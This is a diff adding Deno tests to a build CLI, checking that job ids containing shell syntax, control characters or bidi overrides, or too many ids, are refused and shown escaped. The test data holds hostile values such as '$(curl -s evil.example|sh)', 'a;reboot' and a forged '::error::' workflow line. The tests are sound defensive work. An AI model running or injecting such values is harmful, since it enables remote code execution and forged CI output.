@@ -6,6 +6,7 @@
  * request.
  */
 import assert from "node:assert/strict";
+import { githubFiles } from "./helpers/github.ts";
 import { runInProcess } from "./helpers/in_process.ts";
 import { apiEnv, FakeServer, GARBLED, TOKEN } from "./helpers/fake_server.ts";
 import { tempDir, tempHome } from "./helpers/temp.ts";
@@ -318,6 +319,79 @@ Deno.test("job ids with a line break, a space or a comma are not taken as ids", 
     assertInert(run.stderr);
     assert.equal(server.to("build_status").length, 0);
   }
+});
+
+Deno.test("job ids with shell syntax are refused: exit 1, the build may have started, nothing to paste", async () => {
+  await using home = await tempHome();
+  const hostile = [
+    "$(curl -s evil.example|sh)",
+    "`id`",
+    "a;reboot",
+    "it's",
+    'say"hi"',
+    "a$b",
+    "(x)",
+    "-rf",
+    "x".repeat(129),
+    "",
+  ];
+  for (const id of hostile) {
+    await using server = FakeServer.start({ jobIds: ["j-1", id] });
+    const github = await githubFiles(home.path);
+    const args = ["build", "--no-wait", "--package-id", "p", "--version", "1"];
+    const run = await runInProcess(args, { env: apiEnv(server, home, github.env) });
+    assert.equal(run.code, 1, `${JSON.stringify(id)}: ${run.stderr}`);
+    assert.match(run.stderr, /the server sent no list of usable jobIds: .* is not a job id/);
+    assert.match(run.stderr, /the build may have started: check the dashboard/);
+    assert.doesNotMatch(run.stdout + run.stderr, /Follow the builds with|status --wait/);
+    assert.equal(run.stdout, "");
+    const outputs = await github.output();
+    assert.doesNotMatch(outputs, /j-1/, "an id reached the step outputs");
+    if (id.length > 0 && id.length < 60) {
+      assert.ok(run.stderr.includes(JSON.stringify(id)), `the id is not shown: ${run.stderr}`);
+    }
+    assert.equal(server.to("build_package").length, 1, "the trigger was sent again");
+    assert.equal(server.to("build_status").length, 0);
+  }
+});
+
+Deno.test("a job id with a control or bidi character is shown escaped in the refusal", async () => {
+  await using home = await tempHome();
+  await using server = FakeServer.start({ jobIds: ["a\x1b[2J\n::error::x\u202eb"] });
+  const run = await runInProcess(["build", "--no-wait", "--package-id", "p", "--version", "1"], {
+    env: apiEnv(server, home),
+  });
+  assert.equal(run.code, 1, run.stderr);
+  assertInert(run.stderr);
+  assert.ok(!run.stderr.includes("\u202e"), "a bidi override got through");
+  assert.match(run.stderr, /"a\\u001b\[2J\\n::error::x\\u202eb" is not a job id/);
+});
+
+Deno.test("a trigger answering more job ids than any package has targets is refused", async () => {
+  await using home = await tempHome();
+  const ids = Array.from({ length: 101 }, (_, i) => `j-${i}`);
+  await using server = FakeServer.start({ jobIds: ids });
+  const run = await runInProcess(["build", "--no-wait", "--package-id", "p", "--version", "1"], {
+    env: apiEnv(server, home),
+  });
+  assert.equal(run.code, 1, run.stderr);
+  assert.match(run.stderr, /no list of usable jobIds \(101 ids, more than the 100 expected\)/);
+  assert.match(run.stderr, /may have started/);
+});
+
+Deno.test("status refuses an id that is not a job id, or too many, before any request", async () => {
+  await using home = await tempHome();
+  await using server = FakeServer.start();
+  for (const id of ["$(id)", "a;b", "-x-", "it's"]) {
+    const run = await runInProcess(["status", "--", "j-1", id], { env: apiEnv(server, home) });
+    assert.equal(run.code, 2, run.stderr);
+    assert.match(run.stderr, /is not a job id: job ids are letters, digits/);
+  }
+  const many = Array.from({ length: 101 }, (_, i) => `j-${i}`).join(",");
+  const run = await runInProcess(["status", many], { env: apiEnv(server, home) });
+  assert.equal(run.code, 2, run.stderr);
+  assert.match(run.stderr, /101 job ids given; give at most 100 at a time/);
+  assert.equal(server.requests.length, 0);
 });
 
 Deno.test("an error body with a line break cannot forge a workflow command", async () => {
